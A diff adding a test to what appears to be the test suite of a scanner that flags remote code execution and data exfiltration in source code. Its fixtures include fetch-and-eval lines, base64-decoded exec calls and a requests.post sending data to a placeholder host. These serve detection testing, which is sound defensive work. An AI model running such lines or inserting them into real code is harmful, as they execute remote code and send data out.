@@ -35,6 +35,19 @@ requests.post("https://c.example.net", data=data)
   assert.deepEqual(kinds(text), ['system-facts-sent']);
 });
 
+test('what a regular expression looks for is not done', () => {
+  const looksFor = 'const SEEN =\n  /fetch\\((?:url|eval)\\)|[/]eval\\(await fetch\\(x\\)\\)/;\nfetch(url);\n';
+  assert.equal(readPlainCode(looksFor, 'javascript').text, 'const SEEN =\n  /\u2026/;\nfetch(url);\n');
+  assert.deepEqual(
+    kinds('const half = a / 2; eval(await (await fetch(u)).text()); b = c / d;\n', 'javascript', 'a.js'),
+    ['remote-execution'],
+  );
+  // A slash that only seems to begin a pattern hides nothing.
+  assert.deepEqual(kinds('x = (/[ 1;\neval(await (await fetch(u)).text());\n', 'javascript', 'a.js'), [
+    'remote-execution',
+  ]);
+});
+
 test('what a comment says is not done', () => {
   assert.deepEqual(kinds('# exec(base64.b64decode(x))\nprint(1)\n'), []);
   assert.deepEqual(kinds('// eval(atob(x))\nfetch(url);\n', 'javascript', 'a.js'), []);
